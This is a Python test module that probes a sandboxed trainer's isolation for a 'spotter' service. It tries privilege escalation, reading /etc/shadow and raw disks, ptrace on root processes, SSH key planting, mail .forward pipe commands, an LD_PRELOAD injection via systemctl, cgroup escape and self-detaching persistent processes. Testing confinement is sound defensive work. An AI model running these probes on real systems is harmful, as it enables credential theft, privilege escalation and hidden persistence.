"""What a trainer tries on the machine: the run directory, disks, processes, rights, limits.
Each attack gives back what it got."""

import ctypes
import fcntl
import os
import pathlib
import pwd
import resource
import shutil
import signal
import socket
import stat
import struct
import subprocess
import threading
import time

from common import LOOT, RUN, STORAGE, VICTIM, each, listed, loot, roots_processes

# By modes of the run directory: what everybody, or the trainer's user, is meant to open.
FOR_ALL = {"status.json", "notice", "pace", "parameters.json", "trainer.log", "aws-token"}
BOUND = 2000


def uses_what_it_inherits():
    """Open files of its parents, and credentials in its environment."""
    def is_mine(number):
        where = os.readlink(f"/proc/self/fd/{number}")
        return where.startswith((str(LOOT), "/proc/self", f"/proc/{os.getpid()}"))
    return each(lambda number: not is_mine(number),
                [int(name) for name in os.listdir("/proc/self/fd") if int(name) > 2]) + each(
        lambda name: name in os.environ, ["AWS_SECRET_ACCESS_KEY", "AWS_SESSION_TOKEN"])


def holds_locks_in_the_run_directory():
    """Who may open a file can wait for its lock, and has it as soon as its holder ends."""
    def wait_for(path):
        if path.name in FOR_ALL or not path.is_file():
            return False
        file = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
        threading.Thread(target=fcntl.flock, args=(file, fcntl.LOCK_EX), daemon=True).start()
        return True
    return each(wait_for, listed(RUN))


def reads_the_run_directory():
    def read(path):
        if path.name in FOR_ALL or path.is_dir():
            return False
        return bool(path.read_bytes())
    return each(read, listed(RUN))


def makes_names_in_the_run_directory():
    def make(name):
        (RUN / name).write_text("mine")
    def replace(path):
        os.rename(path, f"{path}.old")
    return " ".join([each(make, ["agent.lock.new", "ended.json.new", "mine"]),
                     each(replace, listed(RUN))]).strip()


def writes_elsewhere():
    def write(path):
        with open(path, "ab"):
            return True
    def make(folder):
        (folder / "planted").write_text("mine")
    places = [VICTIM, VICTIM / "home", *(pathlib.Path(name) for name in (
        "/etc", "/etc/spotter", "/etc/systemd/system", "/etc/cron.d", "/usr/bin", "/usr/lib",
        "/root", "/boot", "/run/systemd/system", "/run/spotter", "/var/lib", "/opt"))]
    files = [VICTIM / "secret", VICTIM / "readable", *(pathlib.Path(name) for name in (
        "/etc/passwd", "/etc/shadow", "/etc/spotter/job.yaml", "/proc/sysrq-trigger",
        "/proc/sys/kernel/core_pattern", "/dev/kmsg", "/sys/kernel/uevent_helper"))]
    return f"{each(make, places)} {each(write, files)}".strip()


def reads_others_secrets():
    def read(path):
        loot("secret", path.read_bytes())
    return each(read, [VICTIM / "secret", pathlib.Path("/etc/shadow"),
                       pathlib.Path("/etc/spotter/environment")])


def reads_disks():
    """The storage's own among them, whose files have modes that a disk has not; and the memory.
    Where there is no name of one, it makes one."""
    def read(path):
        with open(path, "rb") as disk:
            loot("disk", disk.read(4096) or b"nothing")
    def make(path):
        os.mknod(path, stat.S_IFBLK | 0o600, os.makedev(7, 0))
        read(path)
    kinds = ("vd*", "xvd*", "sd*", "nvme*", "loop[0-9]*", "dm-*", "mem", "port")
    there = [path for kind in kinds for path in pathlib.Path("/dev").glob(kind)]
    return f"{each(read, there)} {each(make, [LOOT / 'disk'])}".strip()


def touches_processes_of_root():
    """Signals, memory, environment and files of those that are root's."""
    pids = [pid for pid, _ in roots_processes()]
    libc = ctypes.CDLL(None, use_errno=True)
    def attach(pid):
        if libc.ptrace(16, pid, 0, 0) != 0:  # PTRACE_ATTACH
            raise OSError(ctypes.get_errno(), "ptrace")
    tries = (lambda pid: os.kill(pid, signal.SIGCONT),
             lambda pid: pathlib.Path(f"/proc/{pid}/environ").read_bytes(),
             lambda pid: open(f"/proc/{pid}/mem", "r+b").close(),
             lambda pid: os.listdir(f"/proc/{pid}/fd"), attach)
    return " ".join(each(one, pids) for one in tries).strip()


def writes_programs_that_root_runs():
    """Neither what root runs nor a folder on the way there; in a sticky one names stay."""
    def can_write(path):
        ways = [pathlib.Path(path), *pathlib.Path(path).parents]
        return path.startswith("/") and any(
            os.access(way, os.W_OK) and not way.stat().st_mode & stat.S_ISVTX for way in ways)
    return each(can_write, sorted({word for _, words in roots_processes()
                                   for word in words.split()[:1]}))


def run_each(commands):
    """Those that succeeded, of those whose program is there."""
    def run(command):
        return subprocess.run(command.split(), stdin=subprocess.DEVNULL, capture_output=True,
                              timeout=20, check=False).returncode == 0
    return each(run, [command for command in commands if shutil.which(command.split()[0])])


def commands_process_1():
    """What only root may ask of it."""
    control = "systemctl --no-ask-password"
    return run_each([f"{control} stop spotter.service", f"{control} restart spotter.service",
                     f"{control} kill spotter.service",
                     f"{control} set-environment LD_PRELOAD=/tmp/x.so",
                     "systemd-run --no-ask-password --wait /usr/bin/id",
                     "busctl call org.freedesktop.systemd1 /org/freedesktop/systemd1"
                     " org.freedesktop.systemd1.Manager Reload"])


def logs_in_on_loopback():
    """By a key of its own, where an sshd answers: outside of the unit it could do what it likes."""
    ssh = pathlib.Path(pwd.getpwuid(os.getuid()).pw_dir) / ".ssh"  # sshd's, whatever $HOME is
    key = LOOT / "key"
    ssh.mkdir(mode=0o700, parents=True, exist_ok=True)
    subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", key], check=False)
    (ssh / "authorized_keys").write_bytes(pathlib.Path(f"{key}.pub").read_bytes())
    (ssh / "authorized_keys").chmod(0o600)
    return run_each([f"ssh -i {key} -o BatchMode=yes -o StrictHostKeyChecking=no "
                     f"-o UserKnownHostsFile=/dev/null {way} 127.0.0.1 {words}".strip()
                     for way, words in (("", "id"), ("-s", "sftp"), ("-W 127.0.0.1:22", ""))])


def has_others_start_its_programs():
    """Its user's service manager, cron, at, containers, mail: each would start them outside."""
    home = pathlib.Path(pwd.getpwuid(os.getuid()).pw_dir)  # a mail server's, whatever $HOME is
    each(pathlib.Path.mkdir, [home])
    for name in (".forward", ".forward+list", ".procmailrc", ".mailfilter", ".qmail"):
        each(lambda name: (home / name).rename(home / "moved"), [name])
        each(lambda name: (home / name).write_text('"|/usr/bin/id"\n'), [name])
    for way in ("/run/dbus/system_bus_socket", "/run/docker.sock", f"/run/user/{os.getuid()}/bus"):
        each(lambda way: socket.socket(socket.AF_UNIX).connect(way), [way])
    job = LOOT / "job"  # neither takes a file that is none
    job.write_text("0 0 1 1 * true\n")
    return run_each(["systemd-run --user --wait /usr/bin/id", "loginctl enable-linger",
                     f"crontab {job}", f"at -f {job} now + 1 hour", "docker ps",
                     "systemctl --user show"])


def runs_programs_that_give_rights():
    return run_each(["sudo -n id", "su -c id", "pkexec id", "unshare --mount id",
                     f"mount -t tmpfs x {VICTIM}", f"chown root {LOOT}", "nsenter -t 1 -m id"])


def moves_into_another_control_group():
    groups = [path for path in pathlib.Path("/sys/fs/cgroup").rglob("cgroup.procs")][:50]
    return each(lambda path: path.write_text(str(os.getpid())), groups)


def takes_names_of_abstract_sockets():
    """Of no use: ours have a path. The names are held while it trains."""
    for name in ("spotter", "spotter-agent", "spotter-trainer", str(RUN / "agent.sock")):
        held = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
        each(lambda name, held=held: held.bind("\0" + name), [name])
        takes_names_of_abstract_sockets.__dict__.setdefault("held", []).append(held)


def raises_its_limits():
    bounded = [limit for name, limit in vars(resource).items() if name.startswith("RLIMIT_")
               and resource.getrlimit(limit)[1] != resource.RLIM_INFINITY]
    def raise_one(limit):
        hard = resource.getrlimit(limit)[1]
        resource.setrlimit(limit, (hard + 1, hard + 1))
    return each(raise_one, bounded)


def makes_the_kernel_prefer_it():
    """For want of memory it is to be spared, and to run before all others."""
    spare = pathlib.Path("/proc/self/oom_score_adj")
    before = int(spare.read_text())
    return each(lambda score: spare.write_text(str(score)), [before - 1, -1000]) + each(
        lambda nice: os.setpriority(os.PRIO_PROCESS, 0, nice), [-5]) + each(
        lambda kind: os.sched_setscheduler(0, kind, os.sched_param(1)),
        [os.SCHED_FIFO, os.SCHED_RR])


def has_processes_without_end():
    """Of its user, or of its control group: one of them has a limit. (Forking up to it would take
    that user's other processes along, on a machine that tests share.)"""
    own = pathlib.Path("/proc/self/cgroup").read_text().splitlines()
    limits = [pathlib.Path(f"/sys/fs/cgroup{kind}{line.split(':')[2]}/pids.max")
              for line in own for kind in ("", "/pids")]
    in_groups = [path.read_text().strip() for path in limits if path.exists()]
    of_user = resource.getrlimit(resource.RLIMIT_NPROC)[1]
    return each(lambda _: of_user == resource.RLIM_INFINITY and not any(
        text.isdigit() for text in in_groups), ["no limit"])


def makes_many_files():
    """And removes them: the storage goes on."""
    folder = STORAGE / "many"
    folder.mkdir(exist_ok=True)
    each(lambda number: (folder / str(number)).touch(), range(BOUND))
    shutil.rmtree(folder)


def write_for_ever(path):
    """Hops from process to process, each of which ends at once: it is nobody's child for long."""
    os.setsid()
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    end = time.monotonic() + 60  # should nobody end it
    while time.monotonic() < end:
        try:
            if os.fork():
                os._exit(0)
        except BlockingIOError:  # its user's limit, which others reach too: the hop is left out
            pass
        with open(path, "ab") as file:
            file.write(struct.pack("d", time.monotonic()))
        time.sleep(0.002)
    os._exit(0)


def leaves_processes_that_go_on():
    def leave(number):
        if os.fork() == 0:
            try:
                write_for_ever(STORAGE / f"after-{number}")
            finally:  # whatever fails there: a second trainer it must not become
                os._exit(1)
    each(leave, range(8))
